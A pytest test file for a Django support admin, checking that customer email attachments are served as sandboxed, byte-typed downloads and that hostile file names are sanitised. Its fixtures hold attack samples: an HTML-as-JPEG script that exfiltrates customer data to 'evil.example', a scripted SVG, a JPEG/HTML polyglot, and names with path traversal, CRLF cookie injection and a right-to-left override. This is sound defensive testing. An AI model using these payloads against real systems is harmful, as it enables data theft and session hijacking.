"""A customer's attachment reaches the agent as a download that cannot run in the agent's session.

The files are what attackers send: HTML named like a photo, an SVG with script, a JPEG that is
also an HTML page, a name with a path and a header break in it.
"""

from __future__ import annotations

import pytest
from django.urls import reverse
from django.utils import timezone

from conversations.services.drafts import draft_create
from conversations.services.threads import MessageFacts, message_ingest
from customers.services import customer_get_or_create_lead
from omnichannel.blobstore import blob_put
from tests.builders import make_staff

pytestmark = pytest.mark.django_db

JPEG = bytes.fromhex("ffd8ffe000104a46494600010100000100010000ffdb004300") + b"\x08" * 64 + b"\xff\xd9"
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + b"\x00" * 20
PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
HTML_AS_JPEG = b"<html><body><script>fetch('/api/customers/').then(r=>r.text()).then(t=>fetch('https://evil.example/?'+t))</script>"
SVG = (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)">'
       b'<script>fetch("/api/customers/")</script></svg>')
POLYGLOT = JPEG[:-2] + b"<script>alert(document.domain)</script>" + b"\xff\xd9"


def _draft_with(attachments: list[tuple[str, bytes]], *, thread: str = "att-thread"):
    customer, _ = customer_get_or_create_lead(email="mallory@example.net", name="Mallory")
    stored = [{"name": name, "blob_key": blob_put(data, prefix="attachments").key, "size": len(data),
               "content_type": "image/jpeg"}  # what the sender claimed: never believed
              for name, data in attachments]
    message, _ = message_ingest(facts=MessageFacts(
        channel="email", direction="inbound", external_msg_id=f"{thread}-1", external_thread_id=thread,
        from_address="mallory@example.net", subject="Damaged on arrival", body="Photos attached.",
        attachments=stored, sent_at=timezone.now()), customer=customer, integration="test")
    draft = draft_create(conversation_id=message.conversation_id, body="Sorry to hear that.", confidence=0.5,
                         reply_to_id=message.pk)
    return draft, message


@pytest.fixture
def agent_client(client):
    client.force_login(make_staff("Agents", "grace"))
    return client


def _get(client, draft, message, index):
    return client.get(reverse("admin:conversations_draft_attachment", args=[draft.pk, message.pk, index]))


@pytest.mark.parametrize(("name", "data", "expected_type"), [
    ("damage-photo.jpg", HTML_AS_JPEG, "application/octet-stream"),
    ("invoice.html", HTML_AS_JPEG, "application/octet-stream"),
    ("logo.svg", SVG, "application/octet-stream"),
    ("photo.jpg", POLYGLOT, "image/jpeg"),  # a real JPEG header: an image, never a page
    ("photo.jpg", JPEG, "image/jpeg"),
    ("scan.png", PNG, "image/png"),
    ("receipt.pdf", PDF, "application/pdf"),
    ("receipt.pdf", b"<html>not a pdf</html>", "application/octet-stream"),
])
def test_every_attachment_is_a_download_typed_by_its_bytes_with_no_sniffing_and_a_sandbox(
        agent_client, name, data, expected_type):
    draft, message = _draft_with([(name, data)])
    response = _get(agent_client, draft, message, 0)
    assert response.status_code == 200
    assert response["Content-Type"] == expected_type
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"].startswith("sandbox")
    assert b"".join(response) == data  # the bytes are the customer's, untouched


@pytest.mark.parametrize(("hostile", "expected"), [
    ("../../etc/passwd", 'filename="passwd"'),
    ("photo.jpg\r\nSet-Cookie: sessionid=stolen", 'filename="photo.jpg_Set-Cookie_ sessionid=stolen"'),
    ('a"b.jpg', 'filename="a_b.jpg"'),
    ("", 'filename="attachment"'),
    ("invoice\u202egpj.exe", 'filename="invoicegpj.exe"'),  # shown as "invoiceexe.jpg" with the override
    ("in\u200bvoice\u2028\u0085.pdf", 'filename="invoice.pdf"'),
    ("x" * 500 + ".exe", 'filename="' + "x" * 146 + '.exe"'),  # cut in the stem: never a name without its .exe
])
def test_a_hostile_file_name_cannot_break_the_header_or_the_path(agent_client, hostile, expected):
    draft, message = _draft_with([(hostile, JPEG)])
    response = _get(agent_client, draft, message, 0)
    assert response.status_code == 200
    assert expected in response["Content-Disposition"]
    assert "Set-Cookie" not in response.headers or "stolen" not in response.headers.get("Set-Cookie", "")


def test_a_name_outside_ascii_is_kept_for_the_download(agent_client):
    draft, message = _draft_with([("Rechnung März.pdf", PDF)])
    response = _get(agent_client, draft, message, 0)
    assert "filename*=utf-8''Rechnung%20M%C3%A4rz.pdf" in response["Content-Disposition"]


def test_an_attachment_of_another_conversation_or_out_of_range_is_not_found(agent_client):
    draft, message = _draft_with([("photo.jpg", JPEG)])
    other_draft, _ = _draft_with([("other.jpg", JPEG)], thread="other-thread")
    assert _get(agent_client, draft, message, 1).status_code == 404
    assert _get(agent_client, other_draft, message, 0).status_code == 404  # the message is not in that thread


def test_strangers_are_sent_to_the_login_page(client):
    draft, message = _draft_with([("photo.jpg", JPEG)])
    response = _get(client, draft, message, 0)
    assert response.status_code == 302 and "/admin/login/" in response["Location"]


def test_every_admin_page_carries_a_content_security_policy_without_inline_script(agent_client):
    draft, _ = _draft_with([("photo.jpg", JPEG)])
    response = agent_client.get(reverse("admin:conversations_draft_change", args=[draft.pk]))
    policy = response["Content-Security-Policy"]
    assert "script-src 'self' 'nonce-" in policy and "unsafe-inline" not in policy.split("style-src")[0]
    assert "object-src 'none'" in policy and "frame-ancestors 'none'" in policy
    nonce = policy.split("'nonce-")[1].split("'")[0]
    assert f'<script nonce="{nonce}">' in response.content.decode()
